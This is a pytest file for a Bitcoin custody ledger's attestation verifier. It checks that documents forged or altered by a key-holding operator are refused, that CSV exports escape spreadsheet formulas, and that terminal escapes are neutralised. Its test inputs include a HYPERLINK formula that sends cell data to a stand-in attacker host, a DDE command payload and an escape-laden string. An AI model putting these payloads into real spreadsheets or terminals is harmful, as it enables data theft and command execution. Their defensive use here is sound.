"""Attestations and proofs of control attacked offline: what a dishonest operator (who holds the
ledger's signing key) can change in a document and which check still refuses it."""

from __future__ import annotations

import copy
import csv
import dataclasses
import datetime as dt
import io
import json
import re
import struct
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from custody.errors import PolicyViolation
from custody.merkleblock import BlockHeader, MerkleBlock, retarget_findings, target_from_bits
from ledger.attest import control
from ledger.attest.document import sign_document
from ledger.attest.verify_doc import SEARCH_LIMIT, node_findings, search_end, verify_attestation
from ledger.journal.book import StoredEntry
from ledger.journal.checkpoint import public_key_pem
from ledger.report.export import write_csv, write_jsonl
from tests.unit.test_attestation_doc import json_hash, synthetic
from tests.unit.test_bip322 import MESSAGE, _outs, _sign, _vault
from tests.unit.test_merkleblock import build, compact, header_with_root, sha256d


@pytest.fixture(scope="module")
def key() -> Ed25519PrivateKey:
    return Ed25519PrivateKey.generate()


@pytest.fixture(scope="module")
def doc(key: Ed25519PrivateKey) -> dict[str, Any]:
    return synthetic(key)


def test_the_node_names_outputs_left_out(doc: dict[str, Any]) -> None:
    """Outputs of a vault's scripts the node knows were unspent at H (in its UTXO set now and
    created at or below H, or spent after H) but missing from the document are findings; those
    created after H, and those listed, are not."""
    outs = [(o["txid"], o["vout"]) for o in doc["vaults"][0]["outputs"]]
    hashes = {1: json_hash(doc, 0), 2: doc["block_hash"]}
    script = bytes.fromhex(doc["vaults"][0]["outputs"][0]["script_pubkey"])
    listed = [(t, v, script, 1) for t, v in outs]
    hidden_now, later, hidden_spent = ("aa" * 32, 0, script, 2), ("bb" * 32, 1, script, 3), ("cc" * 32, 4)
    assert node_findings(doc, hashes, set(outs), {}, [*listed, later], {script: "cold"}) == []
    found = node_findings(
        doc, hashes, set(outs), {hidden_spent: ("dd" * 32, 3)}, [*listed, hidden_now], {script: "cold"}
    )
    assert len(found) == 2, found
    assert f"output {'aa' * 32}:0 of vault cold (block 2) is unspent now" in found[0]
    assert f"output {'cc' * 32}:4 of an attested vault was unspent at height 2" in found[1]
    assert all("is not attested" in f for f in found)


def test_one_holders_two_keys_count_once_in_a_proof_of_control() -> None:
    """A holder may hold several keys as long as they alone do not reach the threshold (``vault
    add`` accepts 3-of-5 held a, a, b, c, d): the proof of control, like a spend's approvals,
    needs the threshold of distinct holders. Here bob's key is held by ann: ann signing with both
    keys is two keys but one holder, refused at finish and by the verifier; ann and cat pass."""
    vault = dataclasses.replace(_vault(), holders=("ann", "ann", "cat"))
    [(_, proposal)] = control.prepare(vault, _outs(vault), MESSAGE)
    one_holder = control.add_signed(
        control.add_signed(proposal, _sign(proposal, "ann")), _sign(proposal, "bob")
    )
    with pytest.raises(PolicyViolation, match="distinct holders"):
        control.finalize(one_holder, vault, MESSAGE)
    # the same proof, finished with honest holder names, then presented under vault's names
    honest = control.finalize(one_holder, _vault(), MESSAGE)
    findings = control.verify(honest, str(vault.descriptor), MESSAGE, vault.holders)
    assert findings and "distinct holders" in findings[0], findings
    two = control.add_signed(control.add_signed(proposal, _sign(proposal, "ann")), _sign(proposal, "cat"))
    proof = control.finalize(two, vault, MESSAGE)
    assert proof["signers"] == ["ann", "cat"]
    assert control.verify(proof, str(vault.descriptor), MESSAGE, vault.holders) == ()


# --- the entry export's CSV opened in a spreadsheet -------------------------------------------------


def _stored(seq: int, memo: str, ref: str | None = None) -> StoredEntry:
    return StoredEntry(
        seq, "manual", dt.date(2026, 3, 1), memo, ref, None, None, None, None, None, b"\x00" * 32,
        (("cold", "vault", -5), ("fees", "expense", 5)),
    )  # fmt: skip


@pytest.mark.parametrize(
    "memo",
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "'quoted"],
)
def test_a_memo_that_a_spreadsheet_would_run_is_written_as_text(memo: str) -> None:
    """A memo (or ref) starting with = + - @ (or a tab or carriage return) is a formula to a
    spreadsheet: the CSV writes it behind an apostrophe (OWASP), and one starting with an
    apostrophe gets a second one, so dropping one leading apostrophe always gives the memo back.
    Amounts (negative ones start with -) are numbers and stay as they are; the JSONL is exact."""
    out = io.StringIO()
    write_csv([_stored(1, memo, ref=memo)], out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    header, first = rows[0], rows[1]
    cells = dict(zip(header, first, strict=True))
    assert cells["memo"] == "'" + memo and cells["ref"] == "'" + memo
    assert cells["amount_sat"] == "-5" and cells["amount_btc"].startswith("-")
    assert json.loads(io_jsonl(memo))["memo"] == memo


def io_jsonl(memo: str) -> str:
    out = io.StringIO()
    write_jsonl([_stored(1, memo)], out)
    return out.getvalue()


def test_the_node_search_for_left_out_outputs_is_bounded(doc: dict[str, Any]) -> None:
    """`attest verify --node` derives each vault's scripts up to --gap past the highest index the
    document names; a document naming a huge index (valid BIP-32, index < 2^31) must not make the
    auditor derive billions of scripts: the search stops at SEARCH_LIMIT addresses per branch."""
    vault = copy.deepcopy(doc["vaults"][0])
    assert search_end(vault, 1000) == max(o["index"] for o in vault["outputs"]) + 1 + 1000
    vault["outputs"][0]["index"] = 2**31 - 1
    assert search_end(vault, 1000) == SEARCH_LIMIT
    assert search_end({"outputs": []}, 7) == 7


def test_a_hostile_document_cannot_write_escape_sequences_to_the_auditors_terminal(
    doc: dict[str, Any], key: Ed25519PrivateKey
) -> None:
    """The document is the other side's text: a vault name (or any string) carrying terminal
    escapes, bidirectional overrides or line breaks is shown escaped in every verdict line."""
    hostile = copy.deepcopy(doc)
    hostile["vaults"][0]["name"] = "cold\x1b]0;all good\x07\x1b[2J\u202eok\nOK: the attestation verifies"
    result = verify_attestation(sign_document(hostile, key), [public_key_pem(key)])
    assert not result.ok
    text = "\n".join(result.lines())
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]", text), text
    assert all("\n" not in line for line in result.lines())
    assert "\\x1b" in text and "\\u202e" in text and "\\n" in text


# --- what held: each re-signed by the ledger's own key, each refused by its check -------------------


def _resigned(doc: dict[str, Any], key: Ed25519PrivateKey, change: Callable[[dict[str, Any]], None]) -> Any:
    changed = copy.deepcopy(doc)
    change(changed)
    return verify_attestation(sign_document(changed, key), [public_key_pem(key)])


def test_one_output_claimed_by_two_vaults_is_refused(doc: dict[str, Any], key: Ed25519PrivateKey) -> None:
    def twice(d: dict[str, Any]) -> None:
        other = copy.deepcopy(d["vaults"][0])
        other["name"] = other["account"] = "warm"
        d["vaults"].append(other)
        d["totals"]["chain"] *= 2
        d["totals"]["difference"] = d["totals"]["chain"] - d["totals"]["ledger"]

    result = _resigned(doc, key, twice)
    assert "outputs" in result.failed and "listed twice" in " ".join(result.check("outputs").findings)


def test_a_merkle_proof_of_another_transaction_of_the_same_block_is_refused(
    doc: dict[str, Any], key: Ed25519PrivateKey
) -> None:
    """The block's real proof, but for its first transaction only (a valid gettxoutproof of the
    same block): the attested transactions are then proven nowhere."""
    block = next(iter(doc["proofs"]))
    proof = MerkleBlock.from_hex(doc["proofs"][block])
    txids = [bytes.fromhex(t)[::-1] for t in (*_leaves(doc),)]
    root, hashes, flags = build(txids, [True] + [False] * (len(txids) - 1))
    assert root[::-1].hex() == proof.header.merkle_root
    other = proof.header.raw + struct.pack("<I", len(txids)) + compact(len(hashes)) + b"".join(hashes)
    other += compact(len(flags)) + flags

    result = _resigned(doc, key, lambda d: d["proofs"].__setitem__(block, other.hex()))
    assert result.failed == ("outputs",), result.lines()
    assert "no valid Merkle proof shows transaction" in result.check("outputs").findings[0]


def _leaves(doc: dict[str, Any]) -> list[str]:
    """The synthetic block's txids in block order: the filler, then the two attested ones."""
    filler = sha256d(b"coinbase")[::-1].hex()
    return [filler, *sorted(doc["transactions"], key=lambda t: _block_order(doc, t))]


def _block_order(doc: dict[str, Any], txid: str) -> int:
    matched = MerkleBlock.from_hex(next(iter(doc["proofs"].values()))).matched_txids()
    return matched.index(txid)


def test_headers_that_link_but_end_elsewhere_or_skip_heights_are_refused(
    doc: dict[str, Any], key: Ed25519PrivateKey
) -> None:
    first = BlockHeader.from_hex(doc["headers"]["hex"][0])
    # a header of our own, linked to the first, claimed as block H
    fake = header_with_root(sha256d(b"fake"), prev=bytes.fromhex(first.hash)[::-1]).hex()

    def swap(d: dict[str, Any]) -> None:
        d["headers"]["hex"][1] = fake
        d["block_hash"] = BlockHeader.from_hex(fake).hash

    assert _resigned(doc, key, swap).ok  # offline, a linked header is as good as any: the node decides
    short = _resigned(doc, key, lambda d: d["headers"]["hex"].pop())
    assert "headers" in short.failed
    low = _resigned(doc, key, lambda d: d.__setitem__("network", "main"))  # regtest work on mainnet
    assert "easier than the network's limit" in " ".join(low.check("headers").findings)


def test_a_vault_listed_twice_is_refused(doc: dict[str, Any], key: Ed25519PrivateKey) -> None:
    """Split into two entries of the same name, each with part of the outputs, a vault would show
    its whole ledger balance twice (each a deficit) while every sum still adds up."""

    def split(d: dict[str, Any]) -> None:
        first, second = copy.deepcopy(d["vaults"][0]), copy.deepcopy(d["vaults"][0])
        first["outputs"], second["outputs"] = first["outputs"][:1], first["outputs"][1:]
        for v in (first, second):
            v["chain_amount"] = sum(o["amount"] for o in v["outputs"])
            v["difference"] = v["chain_amount"] - v["ledger_amount"]
        d["vaults"] = [first, second]

    result = _resigned(doc, key, split)
    assert "balances" in result.failed, result.lines()
    assert "listed 2 times" in " ".join(result.check("balances").findings)


def _paths(x: Any, p: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    if p:
        yield p
    children = x.items() if isinstance(x, dict) else enumerate(x) if isinstance(x, list) else ()
    for k, v in children:
        yield from _paths(v, (*p, k))


def test_any_field_of_any_type_fails_a_check_and_never_raises(
    doc: dict[str, Any], key: Ed25519PrivateKey
) -> None:
    """The auditor's verifier reads the other side's JSON: every field replaced by a value of
    another type (or out of range) is a finding, never a traceback, signed or not."""
    pems = [public_key_pem(key)]
    values: tuple[Any, ...] = (None, "x", [], {}, 2**70, 1.5, True)
    for path in _paths(doc):
        if path[0] == "signature":  # sign_document writes it again
            continue
        for value in values:
            changed = copy.deepcopy(doc)
            holder = changed
            for step in path[:-1]:
                holder = holder[step]
            holder[path[-1]] = value
            try:
                result = verify_attestation(sign_document(changed, key), pems)
            except Exception as exc:
                raise AssertionError(f"{path} = {value!r} raised {exc!r}") from exc
            # a holder's name is bound by the vault-added record's keys, which this synthetic
            # record leaves out (the integration test renames holders of a real one)
            renamed = path[-2:-1] == ("holders",) and value == "x"
            if value != doc_value(doc, path) and not renamed:
                assert not result.ok, (path, value)


def doc_value(doc: dict[str, Any], path: tuple[Any, ...]) -> Any:
    value: Any = doc
    for step in path:
        value = value[step]
    return value


# --- a forged block on top of real headers -------------------------------------------------------


def _header(bits: int, n: int) -> BlockHeader:
    return BlockHeader(4, "00" * 32, "00" * 32, 1_700_000_000 + n, bits, n, bytes([n % 256]) * 80)


def test_a_header_whose_difficulty_changes_between_retargets_is_refused() -> None:
    """Real headers S..H-1 and a forged block H of minimum difficulty (cheap to mine) holding a
    made-up transaction: each header meets its own target, but on mainnet (and signet) nBits
    changes only every 2016 blocks, by at most a factor of 4; regtest never retargets."""
    real = 0x17034219
    chain = [_header(real, i) for i in range(5)]
    assert retarget_findings(chain, 840_000, "main") == []
    forged = [*chain[:4], _header(0x1D00FFFF, 4)]
    [finding] = retarget_findings(forged, 840_000, "main")
    assert "height 840004" in finding and "1d00ffff" in finding and "17034219" in finding
    # at a retarget boundary the target may move within a factor of 4, no more
    across = [_header(real, 0), _header(real, 1)]
    assert retarget_findings(across, 2016 * 417 - 1, "main") == []
    quadrupled = target_from_bits(real) * 4
    eased = [_header(real, 0), _header(_bits_of(quadrupled), 1)]
    assert retarget_findings(eased, 2016 * 417 - 1, "main") == []
    too_easy = [_header(real, 0), _header(_bits_of(quadrupled * 2), 1)]
    assert "factor of 4" in retarget_findings(too_easy, 2016 * 417 - 1, "main")[0]
    assert retarget_findings([_header(0x207FFFFF, 0), _header(0x2000FFFF, 1)], 5, "regtest")
    assert retarget_findings(forged, 840_000, "testnet4") == []  # 20-minute rule: not checked


def _bits_of(target: int) -> int:
    size = (target.bit_length() + 7) // 8
    mantissa = target >> 8 * (size - 3) if size > 3 else target << 8 * (3 - size)
    if mantissa & 0x00800000:
        mantissa >>= 8
        size += 1
    return size << 24 | mantissa
